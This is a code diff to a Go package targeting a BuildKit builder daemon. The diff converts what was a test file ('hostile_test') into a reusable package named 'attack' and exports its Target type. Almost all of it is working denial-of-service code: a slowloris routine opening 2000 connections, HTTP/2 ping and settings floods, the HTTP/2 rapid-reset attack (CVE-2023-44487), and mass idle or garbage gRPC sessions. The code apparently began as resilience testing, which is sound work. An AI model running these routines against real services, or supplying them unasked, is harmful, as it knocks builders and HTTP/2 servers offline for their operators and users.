@@ -1,4 +1,4 @@
-package hostile_test
+package attack
 
 import (
 	"archive/tar"
@@ -7,8 +7,8 @@ import (
 	"crypto/rand"
 	"fmt"
 	"net"
+	"strings"
 	"sync"
-	"testing"
 	"time"
 
 	controlapi "github.com/moby/buildkit/api/services/control"
@@ -27,10 +27,22 @@ func tarHeader(size int64) []byte {
 	return buf.Bytes()
 }
 
+// connect opens a connection on which nothing is sent.
+func (s *Target) connect(ctx context.Context) (net.Conn, error) {
+	network, address := "tcp", s.Addr
+	if path, ok := strings.CutPrefix(s.Addr, "unix://"); ok {
+		network, address = "unix", path
+	}
+	conn, err := new(net.Dialer).DialContext(ctx, network, address)
+	if err != nil {
+		return nil, fmt.Errorf("connecting to the builder: %w", err)
+	}
+	return conn, nil
+}
+
 // raw opens a connection on which HTTP/2 has begun, and reads what comes without an end.
-func (s *target) raw(ctx context.Context) (net.Conn, *http2.Framer, error) {
-	var dialer net.Dialer
-	conn, err := dialer.DialContext(ctx, "tcp", s.Builder.Addr)
+func (s *Target) raw(ctx context.Context) (net.Conn, *http2.Framer, error) {
+	conn, err := s.connect(ctx)
 	if err != nil {
 		return nil, nil, err
 	}
@@ -54,11 +66,10 @@ func (s *target) raw(ctx context.Context) (net.Conn, *http2.Framer, error) {
 }
 
 // slowLoris opens connections and sends a byte of them at a time, or nothing.
-func slowLoris(ctx context.Context, _ *testing.T, s *target) {
+func slowLoris(ctx context.Context, s *Target) error {
 	var wg sync.WaitGroup
 	for i := range 2000 {
-		var dialer net.Dialer
-		conn, err := dialer.DialContext(ctx, "tcp", s.Builder.Addr)
+		conn, err := s.connect(ctx)
 		if err != nil {
 			break
 		}
@@ -78,10 +89,11 @@ func slowLoris(ctx context.Context, _ *testing.T, s *target) {
 		})
 	}
 	wg.Wait()
+	return nil
 }
 
 // flood opens connections and sends a frame on each as fast as it goes.
-func flood(ctx context.Context, s *target, frame func(f *http2.Framer, n uint32) error) {
+func flood(ctx context.Context, s *Target, frame func(f *http2.Framer, n uint32) error) {
 	repeat(ctx, 4, func(ctx context.Context) {
 		conn, framer, err := s.raw(ctx)
 		if err != nil {
@@ -96,22 +108,24 @@ func flood(ctx context.Context, s *target, frame func(f *http2.Framer, n uint32)
 	})
 }
 
-func pingFlood(ctx context.Context, _ *testing.T, s *target) {
+func pingFlood(ctx context.Context, s *Target) error {
 	flood(ctx, s, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })
+	return nil
 }
 
-func settingsFlood(ctx context.Context, _ *testing.T, s *target) {
+func settingsFlood(ctx context.Context, s *Target) error {
 	flood(ctx, s, func(f *http2.Framer, n uint32) error {
 		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % (1 << 20)})
 	})
+	return nil
 }
 
 // rapidReset begins calls and resets each at once (CVE-2023-44487).
-func rapidReset(ctx context.Context, _ *testing.T, s *target) {
+func rapidReset(ctx context.Context, s *Target) error {
 	var head bytes.Buffer
 	enc := hpack.NewEncoder(&head)
 	for _, field := range [][2]string{
-		{":method", "POST"}, {":scheme", "http"}, {":path", "/moby.buildkit.v1.Control/Status"}, {":authority", s.Builder.Addr},
+		{":method", "POST"}, {":scheme", "http"}, {":path", "/moby.buildkit.v1.Control/Status"}, {":authority", s.Addr},
 		{"content-type", "application/grpc"}, {"te", "trailers"},
 	} {
 		_ = enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
@@ -123,6 +137,7 @@ func rapidReset(ctx context.Context, _ *testing.T, s *target) {
 		}
 		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
 	})
+	return nil
 }
 
 // sessionAs opens a session with an id of its own.
@@ -134,19 +149,28 @@ func sessionAs(ctx context.Context, control controlapi.ControlClient) (controlap
 }
 
 // idleSessions opens sessions by the thousand, and uses none.
-func idleSessions(ctx context.Context, t *testing.T, s *target) {
-	control := controlapi.NewControlClient(s.dial(t))
+func idleSessions(ctx context.Context, s *Target) error {
+	conn, err := s.dial(ctx)
+	if err != nil {
+		return err
+	}
+	control := controlapi.NewControlClient(conn)
 	for range 2000 {
 		if _, err := sessionAs(ctx, control); err != nil {
 			break
 		}
 	}
 	<-ctx.Done()
+	return nil
 }
 
 // garbageSessions opens sessions and sends in them what is no HTTP/2, named by builds.
-func garbageSessions(ctx context.Context, t *testing.T, s *target) {
-	control := controlapi.NewControlClient(s.dial(t))
+func garbageSessions(ctx context.Context, s *Target) error {
+	conn, err := s.dial(ctx)
+	if err != nil {
+		return err
+	}
+	control := controlapi.NewControlClient(conn)
 	repeat(ctx, 16, func(ctx context.Context) {
 		ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
 		defer cancel()
@@ -167,4 +191,5 @@ func garbageSessions(ctx context.Context, t *testing.T, s *target) {
 			}
 		}
 	})
+	return nil
 }
